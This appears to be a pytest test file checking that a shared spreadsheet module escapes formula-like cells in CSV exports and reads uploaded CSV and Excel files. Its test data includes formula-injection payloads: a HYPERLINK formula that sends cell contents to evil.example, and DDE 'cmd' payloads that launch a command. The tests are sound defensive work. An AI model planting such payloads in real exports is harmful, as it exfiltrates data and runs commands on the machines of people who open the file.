"""Issue 13: spreadsheet formula injection through CSV exports; uploaded CSV and
Excel read as rows, one reader for every service (issue 14)."""

from __future__ import annotations

import csv
import io

import pytest

from secretariat_shared.spreadsheets import UnreadableFile, csv_document, read_rows, safe_cell

pytestmark = pytest.mark.unit


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"点击")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_starting_like_a_formula_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3", "+4.5", "-0.25", "1e3", 7, -2.5, None, "", "普通议题"])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_every_row_and_the_header_go_through_the_escape() -> None:
    content = csv_document(["topic", "=n"], [["=1+1", 5], ["会议", "-7"]])
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["topic", "'=n"], ["'=1+1", "5"], ["会议", "-7"]]


def test_uploaded_csv_with_bom_and_excel_read_as_the_same_rows() -> None:
    from openpyxl import Workbook

    csv_rows = read_rows("\ufeffNumber, 标题 \r\nHR-1,年终总结\r\nHR-2,\r\n".encode())
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (["Number", " 标题 "], ["HR-1", "年终总结"], ["HR-2", None]):
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    xlsx_rows = read_rows(out.getvalue())
    assert csv_rows == [{"number": "HR-1", "标题": "年终总结"}, {"number": "HR-2", "标题": ""}]
    assert xlsx_rows == [{"number": "HR-1", "标题": "年终总结"}, {"number": "HR-2", "标题": None}]
    assert len(read_rows(b"n\r\n" + b"x\r\n" * 5, max_rows=3)) == 3


@pytest.mark.parametrize("data", [b"", "标题".encode("gbk"), b"PK\x03\x04 not a workbook"])
def test_an_unreadable_upload_is_refused_clearly(data: bytes) -> None:
    with pytest.raises(UnreadableFile):
        read_rows(data)
